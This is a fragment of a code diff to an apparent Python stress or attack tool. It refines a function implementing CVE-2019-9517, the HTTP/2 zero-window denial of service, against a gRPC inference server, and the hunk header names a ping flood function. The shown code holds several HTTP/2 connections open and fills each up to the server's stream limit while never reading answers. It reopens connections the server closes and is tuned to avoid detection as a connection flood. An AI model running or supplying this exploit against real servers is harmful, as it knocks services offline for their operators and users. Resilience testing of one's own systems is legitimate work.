@@ -375,12 +375,16 @@ def ping_flood(target: Target, stop: threading.Event, counters: Counter[str]) ->
 
 def zero_window(target: Target, stop: threading.Event, counters: Counter[str], connections: int = 4) -> None:
     """CVE-2019-9517: a client whose receive window is 0 (SETTINGS_INITIAL_WINDOW_SIZE) opens valid
-    calls as fast as the server allows and never reads an answer, on `connections` connections."""
+    calls as fast as the server allows, up to its stream limit, and never reads an answer, on
+    `connections` connections (each replaced when the server closes it)."""
     message = grpc_message(infer_message(target.model, target.input_name, target.sample))
     headers = request_headers(target)
     clients: list[H2Client] = []
     try:
         while not stop.is_set():
+            for c in clients:
+                if c.closed:
+                    c.close()
             clients = [c for c in clients if not c.closed]
             if len(clients) < connections:
                 try:
@@ -391,9 +395,11 @@ def zero_window(target: Target, stop: threading.Event, counters: Counter[str], c
             for c in clients:
                 try:
                     c.pump(ack_data=False)
-                    if c.conn.open_outbound_streams >= c.conn.remote_settings.max_concurrent_streams:
-                        continue
-                    for _ in range(20):
+                    # Never past the server's stream limit: h2 would refuse the stream itself
+                    # (TooManyStreamsError), and a connection dropped for that would make this a
+                    # flood of new connections rather than a few held ones.
+                    room = c.conn.remote_settings.max_concurrent_streams - c.conn.open_outbound_streams
+                    for _ in range(min(20, room)):
                         sid = c.conn.get_next_available_stream_id()
                         c.conn.send_headers(sid, headers)
                         c.conn.send_data(sid, message, end_stream=True)
